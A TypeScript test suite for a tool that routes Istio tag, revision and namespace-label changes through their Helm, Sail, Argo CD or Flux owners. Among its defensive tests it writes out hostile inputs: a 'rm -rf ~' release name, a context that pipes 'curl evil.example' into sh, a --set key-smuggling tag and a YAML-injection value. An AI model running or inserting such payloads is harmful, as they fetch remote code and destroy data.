import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import * as yaml from 'js-yaml';
import type { HelmRelease, ManagedBy, SailView } from '../../../src/mesh/model';
import {
  routeCommands, routeManifests, routeSailWrites, routeWrite, type OwnerNativeRoute, type OwnerRoute, type RouteContext,
} from '../../../src/mesh/owners/ownerRoute';
import { ownerShort, ownerText, revertedBy } from '../../../src/mesh/owners/ownerText';
import { shellCommand, terminalProblem } from '../../../src/mesh/shellQuote';

const CTX = 'prod-eu';
const helm: ManagedBy = { kind: 'helm', name: 'istiod-1-24-3', namespace: 'istio-system', resource: 'release', chart: 'istiod 1.24.3', evidence: [] };
const releases: HelmRelease[] = [
  { name: 'istiod-1-24-3', namespace: 'istio-system', version: 4, status: 'deployed', chart: 'istiod', chartVersion: '1.24.3', revision: '1-24-3', revisionTags: ['default', 'prod'] },
  { name: 'istiod-1-25-1', namespace: 'istio-system', version: 1, status: 'deployed', chart: 'istiod', chartVersion: '1.25.1', revision: '1-25-1', revisionTags: ['canary'] },
  { name: 'istio-base', namespace: 'istio-system', version: 2, status: 'deployed', chart: 'base', chartVersion: '1.25.1', defaultRevision: '1-24-3', revisionTags: [] },
  { name: 'istio-ingress', namespace: 'istio-ingress', version: 1, status: 'deployed', chart: 'gateway', chartVersion: '1.24.3', revision: 'prod', revisionTags: [] },
];
const ctx: RouteContext = { context: CTX, releases };
const sail: SailView = {
  istios: [{ name: 'default', version: 'v1.25.1', updateStrategy: 'RevisionBased', gracePeriodSeconds: 30, activeRevision: 'default-v1-25-1', revisions: {} }],
  revisions: [
    { name: 'default-v1-24-3', istio: 'default', sailInUse: false, oursInUse: false, notInUseSince: '2026-03-01T10:00:00Z' },
    { name: 'default-v1-25-1', istio: 'default', sailInUse: true, oursInUse: true },
  ],
  tags: [{ name: 'default', targetKind: 'Istio', targetName: 'default', revision: 'default-v1-25-1' }],
};
const sailTag: ManagedBy = { kind: 'sail', name: 'default', resource: 'IstioRevisionTag', evidence: [] };
const argo: ManagedBy = { kind: 'argocd', name: 'payments', namespace: 'argocd', resource: 'Application', evidence: [] };

function native(route: OwnerRoute): OwnerNativeRoute {
  assert.equal(route.route, 'owner-native');
  return route as OwnerNativeRoute;
}

/** What sh makes of a command line: its arguments. */
function shArgs(line: string): string[] {
  return execFileSync('sh', ['-c', `for a in ${line}; do printf '%s\\0' "$a"; done`], { encoding: 'utf8' }).split('\0').slice(0, -1);
}

describe('owner routes (issue 13): who would revert a write, and the owner\'s way', () => {
  it('names every owner kind the way the tree shows it', () => {
    assert.equal(ownerText(helm), 'Helm release istiod-1-24-3 · istiod 1.24.3');
    assert.equal(ownerText({ ...helm, releaseStatus: 'pending-upgrade' }), 'Helm release istiod-1-24-3 · istiod 1.24.3 · ⚠ pending-upgrade');
    assert.equal(ownerShort(sailTag), 'Sail IstioRevisionTag default');
    assert.equal(ownerShort(argo), 'Argo CD app argocd/payments');
    assert.equal(ownerShort({ kind: 'flux', name: 'apps', namespace: 'flux-system', resource: 'Kustomization', evidence: [] }), 'Flux Kustomization flux-system/apps');
    assert.match(revertedBy(helm), /next `helm upgrade` or `helm rollback` of istiod-1-24-3/);
  });

  it('no owner, or istioctl install: a direct write — istioctl with what its install and uninstall do', () => {
    assert.deepEqual(routeWrite({ kind: 'move-tag', tag: 'prod', to: '1-25-1' }, undefined, ctx), { route: 'direct', notes: [] });
    const iop: ManagedBy = { kind: 'istioctl', name: 'installed-state', resource: 'IstioOperator', evidence: [] };
    const r = routeWrite({ kind: 'remove-revision', revision: '1-24-3' }, iop, ctx);
    assert.equal(r.route, 'direct');
    assert.match(r.notes.join('\n'), /istioctl uninstall --revision 1-24-3` deletes every object labelled istio\.io\/rev=1-24-3 .* tag webhooks pointing at 1-24-3 included/);
  });

  it('Helm tag move: out of the old release first, then into the target revision\'s — exact commands, and the gap hazard', () => {
    const r = native(routeWrite({ kind: 'move-tag', tag: 'prod', from: '1-24-3', to: '1-25-1' }, helm, ctx));
    assert.deepEqual(routeCommands(r), [
      ['helm', 'upgrade', 'istiod-1-24-3', 'istio/istiod', '--version', '1.24.3', '--namespace', 'istio-system', '--kube-context', CTX, '--reuse-values', '--set', 'revisionTags={default}'],
      ['helm', 'upgrade', 'istiod-1-25-1', 'istio/istiod', '--version', '1.25.1', '--namespace', 'istio-system', '--kube-context', CTX, '--reuse-values', '--set', 'revisionTags={canary,prod}'],
    ]);
    assert.match(r.explanation, /take prod out of istiod-1-24-3, then add it to istiod-1-25-1, in that order/);
    assert.match(r.hazards[0], /Between the two commands no webhook serves tag prod/);
    assert.match(r.hazards[1], /--take-ownership/);
    assert.deepEqual(routeSailWrites(r), []);
  });

  it('Helm default change: the default tag moves like any tag, and the base chart\'s defaultRevision follows', () => {
    const r = native(routeWrite({ kind: 'move-tag', tag: 'default', to: '1-25-1' }, helm, ctx));
    const commands = routeCommands(r);
    assert.equal(commands.length, 3);
    assert.deepEqual(commands[0].slice(-1), ['revisionTags={prod}']);
    assert.deepEqual(commands[2], ['helm', 'upgrade', 'istio-base', 'istio/base', '--version', '1.25.1', '--namespace', 'istio-system', '--kube-context', CTX, '--reuse-values', '--set', 'defaultRevision=1-25-1']);
  });

  it('Helm tag move to a revision no release installed: take it out of the release, then istioctl tag set', () => {
    const r = native(routeWrite({ kind: 'move-tag', tag: 'prod', to: 'vendor-1-25' }, helm, ctx));
    assert.deepEqual(routeCommands(r)[1], ['istioctl', 'tag', 'set', 'prod', '--revision', 'vendor-1-25', '--context', CTX]);
  });

  it('Helm tag removal, revision removal (helm uninstall, and what it also deletes), gateway move', () => {
    assert.deepEqual(routeCommands(routeWrite({ kind: 'remove-tag', tag: 'prod' }, helm, ctx)).map((c) => c.slice(-1)[0]), ['revisionTags={default}']);
    const removal = native(routeWrite({ kind: 'remove-revision', revision: '1-24-3' }, helm, ctx));
    assert.deepEqual(routeCommands(removal), [['helm', 'uninstall', 'istiod-1-24-3', '--namespace', 'istio-system', '--kube-context', CTX]]);
    assert.match(removal.hazards.join('\n'), /also the webhooks of its revisionTags \(default, prod\)/);
    assert.match(removal.hazards.join('\n'), /istio-base's defaultRevision is still 1-24-3/);
    const gw: ManagedBy = { kind: 'helm', name: 'istio-ingress', namespace: 'istio-ingress', resource: 'release', evidence: [] };
    assert.deepEqual(routeCommands(routeWrite({ kind: 'gateway-move', namespace: 'istio-ingress', name: 'istio-ingress', to: 'canary' }, gw, ctx)), [
      ['helm', 'upgrade', 'istio-ingress', 'istio/gateway', '--version', '1.24.3', '--namespace', 'istio-ingress', '--kube-context', CTX, '--reuse-values', '--set', 'revision=canary'],
    ]);
  });

  it('a release caught mid-operation is a hazard before any command', () => {
    const pending = releases.map((r) => (r.name === 'istiod-1-24-3' ? { ...r, status: 'pending-upgrade' } : r));
    const r = native(routeWrite({ kind: 'remove-tag', tag: 'prod' }, helm, { ...ctx, releases: pending }));
    assert.match(r.hazards[0], /istiod-1-24-3 is pending-upgrade/);
  });

  it('hostile release data gives no command: a name Helm never made, tags that would smuggle keys into --set', () => {
    const evil = [{ ...releases[0], name: 'x; rm -rf ~' }, releases[1]];
    const r = native(routeWrite({ kind: 'remove-tag', tag: 'prod' }, { ...helm, name: 'x; rm -rf ~' }, { ...ctx, releases: evil }));
    assert.deepEqual(routeCommands(r), []);
    assert.match(r.hazards.join('\n'), /"x; rm -rf ~" is not a Helm release name/);
    const smuggled = [{ ...releases[0], revisionTags: ['prod', 'a,global.hub=evil.example'] }];
    const s = native(routeWrite({ kind: 'remove-tag', tag: 'prod' }, helm, { ...ctx, releases: smuggled }));
    assert.deepEqual(routeCommands(s), []);
    assert.match(s.hazards.join('\n'), /revisionTags holds "a,global\.hub=evil\.example", which is not a tag name/);
  });

  it('a hostile context name stays one argument for sh, and control characters keep commands out of a terminal', () => {
    const context = "prod'; curl evil.example | sh; echo '$(id)";
    const [cmd] = routeCommands(routeWrite({ kind: 'remove-revision', revision: '1-24-3' }, helm, { ...ctx, context }));
    assert.deepEqual(shArgs(shellCommand(cmd)), cmd);
    assert.equal(terminalProblem([cmd]), undefined);
    const [ctrl] = routeCommands(routeWrite({ kind: 'remove-revision', revision: '1-24-3' }, helm, { ...ctx, context: 'prod\u0003\u001b[2J\nrm' }));
    assert.match(terminalProblem([ctrl]) ?? '', /control character/);
  });

  it('Sail tag move: a merge patch of IstioRevisionTag.spec.targetRef, never the webhook; to the active revision it follows the Istio', () => {
    const r = native(routeWrite({ kind: 'move-tag', tag: 'default', to: 'default-v1-24-3' }, sailTag, { ...ctx, sail }));
    assert.deepEqual(routeCommands(r), []);
    assert.deepEqual(routeSailWrites(r), [{
      op: 'patch', resource: 'istiorevisiontags', name: 'default', field: 'spec.targetRef', before: 'Istio/default', after: 'IstioRevision/default-v1-24-3',
      patch: { spec: { targetRef: { kind: 'IstioRevision', name: 'default-v1-24-3' } } },
      summary: 'patch IstioRevisionTag default: spec.targetRef Istio/default → IstioRevision/default-v1-24-3',
    }]);
    const back = { ...sail, tags: [{ name: 'default', targetKind: 'IstioRevision', targetName: 'default-v1-24-3' }] };
    const w = routeSailWrites(routeWrite({ kind: 'move-tag', tag: 'default', to: 'default-v1-25-1' }, sailTag, { ...ctx, sail: back }))[0];
    assert.deepEqual(w.patch, { spec: { targetRef: { kind: 'Istio', name: 'default' } } });
    const nowhere = native(routeWrite({ kind: 'move-tag', tag: 'default', to: '1-20-0' }, sailTag, { ...ctx, sail }));
    assert.deepEqual(nowhere.actions, []);
    assert.match(nowhere.explanation, /1-20-0 is not an IstioRevision/);
  });

  it('Sail tag removal deletes the IstioRevisionTag; Sail revision removal says when Sail prunes it', () => {
    assert.deepEqual(routeSailWrites(routeWrite({ kind: 'remove-tag', tag: 'default' }, sailTag, { ...ctx, sail })).map((w) => `${w.op} ${w.resource}/${w.name}`), ['delete istiorevisiontags/default']);
    const rev: ManagedBy = { kind: 'sail', name: 'default-v1-24-3', resource: 'IstioRevision', evidence: [] };
    const old = native(routeWrite({ kind: 'remove-revision', revision: 'default-v1-24-3' }, rev, { ...ctx, sail }));
    assert.deepEqual(old.actions, []);
    assert.equal(old.prune?.state, 'scheduled');
    assert.equal(old.prune?.at, '2026-03-01T10:00:30Z');
    assert.match(old.notes[0], /not in use since 2026-03-01T10:00:00Z, grace period 30 s — at 2026-03-01T10:00:30Z/);
    const active = native(routeWrite({ kind: 'remove-revision', revision: 'default-v1-25-1' }, { ...rev, name: 'default-v1-25-1' }, { ...ctx, sail }));
    assert.equal(active.prune?.state, 'active');
    const unknown = { ...sail, revisions: [{ ...sail.revisions[0], sailInUse: undefined, notInUseSince: undefined }] };
    assert.equal(native(routeWrite({ kind: 'remove-revision', revision: 'default-v1-24-3' }, rev, { ...ctx, sail: unknown })).prune?.state, 'unknown');
  });

  it('Argo CD namespace relabel: refused with the manifest to commit, a kustomize patch and the ignoreDifferences stop-gap', () => {
    const w = { kind: 'relabel-namespace' as const, namespace: 'payments', labels: { 'istio-injection': 'enabled', team: 'pay' }, set: { 'istio.io/rev': 'canary' }, remove: ['istio-injection'] };
    const r = native(routeWrite(w, argo, ctx));
    assert.match(r.explanation, /reverted at its next sync .*istio-injection, once back, wins over istio\.io\/rev/);
    const [ns, patch, ignore] = routeManifests(r).map((m) => yaml.load(m.text) as Record<string, never>);
    assert.deepEqual(ns, { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'payments', labels: { team: 'pay', 'istio.io/rev': 'canary' } } });
    const entry = (patch as unknown as { patches: { target: unknown; patch: string }[] }).patches[0];
    assert.deepEqual(entry.target, { version: 'v1', kind: 'Namespace', name: 'payments' });
    assert.deepEqual(yaml.load(entry.patch), [{ op: 'remove', path: '/metadata/labels/istio-injection' }, { op: 'add', path: '/metadata/labels/istio.io~1rev', value: 'canary' }]);
    assert.deepEqual(ignore, {
      apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'payments', namespace: 'argocd' },
      spec: { ignoreDifferences: [{ group: '', kind: 'Namespace', name: 'payments', jsonPointers: ['/metadata/labels/istio-injection', '/metadata/labels/istio.io~1rev'] }], syncPolicy: { syncOptions: ['RespectIgnoreDifferences=true'] } },
    });
  });

  it('Flux namespace relabel: its owner labels are not in Git; the stop-gap is .spec.ignore; hostile values stay one YAML scalar', () => {
    const flux: ManagedBy = { kind: 'flux', name: 'apps', namespace: 'flux-system', resource: 'Kustomization', evidence: [] };
    const hostile = 'x\n  evil: "yes" # }{';
    const labels = { 'kustomize.toolkit.fluxcd.io/name': 'apps', 'kustomize.toolkit.fluxcd.io/namespace': 'flux-system', note: hostile };
    const r = native(routeWrite({ kind: 'relabel-namespace', namespace: 'catalog', labels, set: { 'istio.io/rev': 'canary' }, remove: [] }, flux, ctx));
    const [ns, , ignore] = routeManifests(r).map((m) => yaml.load(m.text) as { metadata: { labels?: Record<string, string> }; spec?: unknown });
    assert.deepEqual(ns.metadata.labels, { note: hostile, 'istio.io/rev': 'canary' });
    assert.deepEqual(ignore.spec, { ignore: [{ paths: ['/metadata/labels/istio.io~1rev'], target: { kind: 'Namespace', name: 'catalog' } }] });
    assert.match(r.explanation, /next reconcile \(every `\.spec\.interval`\)/);
  });
});
